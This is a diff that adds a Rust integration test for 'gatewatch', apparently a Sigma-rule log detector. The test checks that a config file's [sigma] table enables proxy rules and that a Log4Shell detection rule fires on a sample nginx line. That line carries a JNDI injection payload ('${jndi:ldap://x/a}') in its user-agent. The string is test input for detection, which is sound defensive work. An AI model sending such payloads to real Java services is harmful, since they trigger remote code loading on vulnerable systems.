@@ -471,3 +471,61 @@ fn run_loads_sigma_rules_from_a_tree_and_skips_what_it_cannot_run_without_failin
         "the skipped rule is logged with its reason: {stderr}"
     );
 }
+
+#[test]
+fn the_config_files_sigma_table_selects_proxy_rules_beside_the_sink_settings() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    std::fs::write(
+        rules.join("proxy.yml"),
+        LOG4SHELL_UA.replace("category: webserver", "category: proxy"),
+    )
+    .unwrap();
+    let r = rules.to_str().unwrap();
+    let lint = gatewatch(&["rules", "lint", r], None);
+    assert!(String::from_utf8_lossy(&lint.stdout).contains("--sigma-proxy"));
+
+    let config = dir.path().join("gatewatch.toml");
+    std::fs::write(
+        &config,
+        "[spool]\n\n[sigma]\nproxy = true\nwindow = \"5m\"\n",
+    )
+    .unwrap();
+    let c = config.to_str().unwrap();
+    let lint = gatewatch(&["rules", "lint", r, "--config", c], None);
+    let listed = String::from_utf8_lossy(&lint.stdout);
+    assert!(
+        lint.status.success() && !listed.contains("skipped"),
+        "{listed}"
+    );
+    // `run` reads the same file for its sinks and its [sigma] table.
+    let line = "203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"${jndi:ldap://x/a}\"\n";
+    let out = gatewatch(
+        &[
+            "run",
+            "--rules",
+            r,
+            "--config",
+            c,
+            "-i",
+            "-",
+            "-f",
+            "nginx",
+            "--no-summary",
+        ],
+        Some(line.as_bytes()),
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let alerts = alerts_of(&out);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0]["window_end"], "2026-01-01T00:05:00.000Z");
+    // A typo in the table is an error, not a silently ignored setting.
+    std::fs::write(&config, "[sigma]\nproxi = true\n").unwrap();
+    let lint = gatewatch(&["rules", "lint", r, "--config", c], None);
+    assert!(!lint.status.success());
+}
